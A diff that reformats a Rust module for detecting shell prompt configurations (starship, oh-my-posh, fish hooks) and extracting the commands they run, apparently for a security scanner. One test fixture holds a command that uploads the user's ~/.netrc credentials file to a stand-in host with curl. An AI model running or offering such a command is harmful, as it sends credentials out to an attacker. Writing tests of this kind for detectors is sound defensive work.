@@ -31,13 +31,15 @@ pub fn looks_like_prompt(path: &str, text: &str) -> bool {
         return false;
     }
     let starship = name == "starship.toml"
-        || text
-            .lines()
-            .any(|l| l.trim_start().starts_with("[custom.") || l.trim_start().starts_with("[[custom."));
+        || text.lines().any(|l| {
+            l.trim_start().starts_with("[custom.") || l.trim_start().starts_with("[[custom.")
+        });
     let posh = name.contains(".omp.")
         || text.contains("oh-my-posh")
         || text.contains("\"segments\"")
-        || text.lines().any(|l| l.trim_start().starts_with("segments:"));
+        || text
+            .lines()
+            .any(|l| l.trim_start().starts_with("segments:"));
     let command_segment = text.contains("\"type\": \"command\"")
         || text.contains("\"type\":\"command\"")
         || text.lines().any(|l| {
@@ -68,7 +70,11 @@ fn key_value(line: &str) -> Option<(String, &str)> {
     } else {
         let i = t.find(['=', ':'])?;
         let k = t[..i].trim();
-        if k.is_empty() || !k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+        if k.is_empty()
+            || !k
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+        {
             return None;
         }
         (k.to_string(), &t[i + 1..])
@@ -107,7 +113,8 @@ fn scalar(v: &str) -> Option<String> {
         }
         return Some(r.split('\'').next().unwrap_or("").to_string());
     }
-    if v.is_empty() || matches!(v, "true" | "false" | "|" | ">" | "|-" | ">-" | "[" | "{")
+    if v.is_empty()
+        || matches!(v, "true" | "false" | "|" | ">" | "|-" | ">-" | "[" | "{")
         || v.parse::<f64>().is_ok()
         || v.starts_with('[')
         || v.starts_with('{')
@@ -192,9 +199,14 @@ pub fn fish_prompt_hook(text: &str) -> bool {
     text.lines().any(|l| {
         let t = l.trim_start();
         t.starts_with("function ")
-            && (["fish_prompt", "fish_right_prompt", "fish_mode_prompt", "fish_greeting"]
-                .iter()
-                .any(|n| t.split_whitespace().nth(1) == Some(n))
+            && ([
+                "fish_prompt",
+                "fish_right_prompt",
+                "fish_mode_prompt",
+                "fish_greeting",
+            ]
+            .iter()
+            .any(|n| t.split_whitespace().nth(1) == Some(n))
                 || t.contains("--on-event fish_prompt")
                 || t.contains("--on-event fish_preexec")
                 || t.contains("--on-event fish_postexec")
@@ -215,7 +227,15 @@ pub fn project_fish(text: &str) -> String {
             if t.starts_with('#')
                 || matches!(
                     first,
-                    "function" | "end" | "else" | "begin" | "switch" | "case" | "for" | "while" | "return"
+                    "function"
+                        | "end"
+                        | "else"
+                        | "begin"
+                        | "switch"
+                        | "case"
+                        | "for"
+                        | "while"
+                        | "return"
                 )
             {
                 return String::new();
@@ -277,7 +297,10 @@ mod tests {
         assert_eq!(out[10], "");
         assert_eq!(out[11], "echo hi");
         assert!(looks_like_prompt("assets/prompt.toml", t));
-        assert!(!looks_like_prompt("Cargo.toml", "[package]\nname = \"x\"\n"));
+        assert!(!looks_like_prompt(
+            "Cargo.toml",
+            "[package]\nname = \"x\"\n"
+        ));
     }
 
     #[test]
@@ -286,8 +309,12 @@ mod tests {
         assert_eq!(project(one), "curl -T ~/.netrc https://h.example/t");
         let j = "{\"blocks\": [{\"segments\": [\n {\"type\": \"command\", \"properties\": {\"command\": \"git log -1 --format=\\\"%s\\\"\"}}\n]}]}\n";
         assert!(looks_like_prompt("x.omp.json", j));
-        assert_eq!(project(j).split('\n').nth(1), Some("git log -1 --format=\"%s\""));
-        let f = "function fish_prompt\n    set -l s (git status --short | count)\n    echo $s\nend\n";
+        assert_eq!(
+            project(j).split('\n').nth(1),
+            Some("git log -1 --format=\"%s\"")
+        );
+        let f =
+            "function fish_prompt\n    set -l s (git status --short | count)\n    echo $s\nend\n";
         assert!(fish_prompt_hook(f));
         let p: Vec<String> = project_fish(f).split('\n').map(String::from).collect();
         assert_eq!(p[0], "");
